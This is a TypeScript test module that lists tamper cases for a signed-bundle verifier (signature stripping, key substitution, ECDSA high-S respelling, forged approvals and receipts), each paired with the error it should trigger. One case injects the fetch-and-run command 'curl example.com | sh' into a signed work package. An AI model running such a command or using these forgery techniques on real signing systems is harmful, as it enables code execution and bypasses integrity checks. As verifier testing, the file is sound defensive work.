import { MANIFEST_PATH, SIGSTORE_MANIFEST_PATH, type ApprovalStatement, type Envelope, type ReceiptStatement, type Statement, type WorkPackageStatement } from '../../core/bundle/format.ts';
import { encodeBase64, encodeUtf8 } from '../../core/encoding/index.ts';
import { APPROVERS } from '../scenario/keyring.ts';
import { RUNNERS } from '../scenario/organisation.ts';
import { signEnvelope } from '../seal/dsse.ts';
import { jcsBytes } from '../seal/jcs.ts';
import { bytesOf, envelopeAt, firstNamed, payloadOf, replaceEnvelope, reseal, resealManifest, resign, textOf, twoNamed, type OpenedBundle } from './opened-bundle.ts';
import { highS, looseBase64 } from './respell-signature.ts';
import { toContent, type Tamper } from './tamper.ts';

const isApproval = (name: string): boolean => name.startsWith('approvals/');
const isReceipt = (name: string): boolean => name.endsWith('.receipt.dsse.json');
const isPackage = (name: string): boolean => name.startsWith('work-packages/') && !isReceipt(name);
const same = (statement: Statement): Statement => statement;

type Signature = Envelope['signatures'][number];
const inManifest = (edit: (signatures: readonly [Signature, Signature]) => readonly Signature[]) => (bundle: OpenedBundle): void =>
  replaceEnvelope(bundle, MANIFEST_PATH, (envelope) => {
    const [store, notary] = envelope.signatures;
    if (store === undefined || notary === undefined) throw new Error('the manifest has not two signatures');
    return { ...envelope, signatures: [...edit([store, notary])] };
  });

/** A signed payload edited, its signature as it was. */
function reword<T extends object>(bundle: OpenedBundle, name: string, edit: (payload: T) => T): void {
  replaceEnvelope(bundle, name, (envelope) => ({ ...envelope, payload: encodeBase64(jcsBytes(edit(payloadOf<T>(envelope)))) }));
}

function approvedByAnother(bundle: OpenedBundle): void {
  const name = firstNamed(bundle, isApproval);
  const { approver } = payloadOf<ApprovalStatement>(envelopeAt(bundle, name));
  const other = APPROVERS.find((person) => person.id !== approver);
  if (other === undefined) throw new Error('nobody else approves');
  resign(bundle, name, bundle.keyring.approver(other.id));
}

function receiptByAnother(bundle: OpenedBundle): void {
  const name = firstNamed(bundle, isReceipt);
  const { runner } = payloadOf<ReceiptStatement>(envelopeAt(bundle, name));
  const other = RUNNERS.find((each) => each.runner !== runner);
  if (other === undefined) throw new Error('there is one runner only');
  resign(bundle, name, bundle.keyring.runner(other.runner));
}

/** Manifest, approvals, work packages: who signed what, and with which key. */
export const SIGNATURE_TAMPERS: readonly Tamper[] = [
  toContent('strip-signature', 'manifest.signers-mismatch', 'the notary\u2019s signature taken off the manifest', inManifest(([store]) => [store])),
  toContent('unknown-signer', 'signature.key-unknown', 'the manifest signed by a key nobody handed over', (bundle) => resealManifest(bundle, [bundle.stranger], same)),
  toContent('claim-key', 'signature.invalid', 'the manifest signed by a stranger in the name of a trusted key', (bundle) => {
    const { store, notary } = bundle.keyring;
    const claimed = { ...bundle.stranger, keyid: store.keyid };
    resealManifest(bundle, [claimed, notary], same);
  }),
  toContent('copy-signature', 'signature.malformed', 'one signature under the names of both signers', inManifest(([store, notary]) => [store, { ...notary, sig: store.sig }])),
  toContent('exchange-signatures', 'manifest.signers-mismatch', 'the two signatures in the other order', inManifest(([store, notary]) => [notary, store])),
  toContent('high-s', 'signature.non-canonical', 'the other of the two spellings of an ECDSA signature, which needs no key', inManifest(([store, notary]) => [store, { ...notary, sig: highS(notary.sig) }])),
  toContent('loose-base64', 'signature.malformed', 'a signature with bits behind its last byte', inManifest(([store, notary]) => [{ ...store, sig: looseBase64(store.sig) }, notary])),
  toContent('wrong-purpose', 'signature.key-purpose', 'the manifest signed with a key that is trusted for work packages', (bundle) => resealManifest(bundle, [bundle.keyring.orchestrator, bundle.keyring.notary], same)),
  toContent('predate-manifest', 'signature.key-outside-window', 'a manifest dated before its keys were valid, by an insider', (bundle) => reseal(bundle, (statement) => ({ ...statement, predicate: { ...statement.predicate, created_at: '2020-01-01T00:00:00.000Z' } }))),
  toContent('other-payload-type', 'manifest.malformed', 'the manifest\u2019s payload said to be of another type', (bundle) => replaceEnvelope(bundle, MANIFEST_PATH, (envelope) => ({ ...envelope, payloadType: 'application/json' }))),
  toContent('respell-manifest', 'manifest.not-canonical', 'a line feed behind the manifest', (bundle) => void bundle.files.set(MANIFEST_PATH, encodeUtf8(`${textOf(bundle, MANIFEST_PATH)}\n`))),
  toContent('unknown-manifest-member', 'manifest.unknown-member', 'a member the format does not have, signed by an insider', (bundle) => reseal(bundle, (statement) => ({ ...statement, predicate: { ...statement.predicate, comment: 'see the annex' } }))),
  toContent('two-manifests', 'manifest.ambiguous', 'a manifest of the other kind beside the first', (bundle) => void bundle.files.set(SIGSTORE_MANIFEST_PATH, bytesOf(bundle, MANIFEST_PATH))),
  toContent('drop-manifest', 'manifest.missing', 'the manifest left out', (bundle) => void bundle.files.delete(MANIFEST_PATH)),
  toContent('edit-approval', 'approval.signature-invalid', 'the reason of an approval reworded', (bundle) => reword<ApprovalStatement>(bundle, firstNamed(bundle, isApproval), (statement) => ({ ...statement, reason: 'Approved in the stand-up.' }))),
  toContent('approved-by-another', 'approval.signer-mismatch', 'an approval signed with another approver\u2019s key', approvedByAnother),
  toContent('approved-by-stranger', 'approval.key-unknown', 'an approval signed by a key nobody handed over', (bundle) => resign(bundle, firstNamed(bundle, isApproval), bundle.stranger)),
  toContent('move-approval', 'approval.malformed', 'the approval of one action in the place of another\u2019s', (bundle) => {
    const [one, other] = twoNamed(bundle, isApproval);
    bundle.files.set(one, bytesOf(bundle, other));
  }),
  toContent('approval-of-two', 'approval.malformed', 'a second signature on one person\u2019s approval', (bundle) => {
    const name = firstNamed(bundle, isApproval);
    const envelope = envelopeAt(bundle, name);
    const approval = payloadOf<ApprovalStatement>(envelope);
    bundle.files.set(name, signEnvelope(envelope.payloadType, approval, [bundle.keyring.approver(approval.approver), bundle.stranger]));
  }),
  toContent('edit-package', 'package.signature-invalid', 'a command added to a signed work package', (bundle) => reword<WorkPackageStatement>(bundle, firstNamed(bundle, isPackage), (statement) => ({ ...statement, commands: [...statement.commands, 'curl example.com | sh'] }))),
  toContent('package-by-runner', 'package.key-refused', 'a work package signed with the key of a runner', (bundle) => resign(bundle, firstNamed(bundle, isPackage), bundle.keyring.runner(RUNNERS[0].runner))),
  toContent('receipt-by-other-runner', 'package.signer-mismatch', 'a receipt signed by another runner than it names', receiptByAnother),
];
